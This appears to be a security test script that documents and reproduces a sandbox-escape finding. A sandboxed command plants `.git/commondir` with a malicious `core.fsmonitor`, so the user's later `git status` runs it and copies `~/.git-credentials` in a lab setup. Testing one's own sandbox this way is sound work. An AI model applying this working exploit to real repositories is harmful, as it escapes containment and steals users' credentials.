/*
 * Finding: a sandboxed command creates `.git/commondir` (missing in a plain checkout, so never
 * bound read-only: policy.ts readOnly skips missing paths in bwrap.ts) pointing at a git
 * directory it made inside `.git/` (writable, invisible to `git status`), whose config is the
 * real one plus core.fsmonitor. The user's own `git status` outside then runs the planted program
 * with the user's rights; here it copies ~/.git-credentials.
 * Run: npx tsx scripts/attack/commondir.ts
 */
import fs from "node:fs";
import path from "node:path";
import { spawnSync } from "node:child_process";
import { lab, sandboxed, verdict } from "./lib.ts";

const l = lab("commondir");
const pwned = path.join(l.home, "PWNED-commondir");
const inside = [
  "set -e",
  "mkdir -p .git/x",
  "ln -s ../objects .git/x/objects",
  "ln -s ../refs .git/x/refs",
  `printf '#!/bin/sh\\ncp ~/.git-credentials ${pwned}; exit 1\\n' > .git/x/fsm; chmod +x .git/x/fsm`,
  "{ cat .git/config; printf '[core]\\n\\tfsmonitor = %s\\n' \"$PWD/.git/x/fsm\"; } > .git/x/config",
  "echo x > .git/commondir",
  "echo planted",
].join("\n");
console.log(sandboxed(l, l.repo, inside));
console.log("after sandbox, PWNED exists?", fs.existsSync(pwned));
// The user's own git, outside, later:
const st = spawnSync("git", ["status", "--short"], { cwd: l.repo, env: l.env, encoding: "utf8" });
console.log("user's git status:", st.status, JSON.stringify(st.stdout), st.stderr);
verdict("commondir planted in .git", fs.existsSync(pwned), fs.existsSync(pwned) ? fs.readFileSync(pwned, "utf8").trim() : "no file");
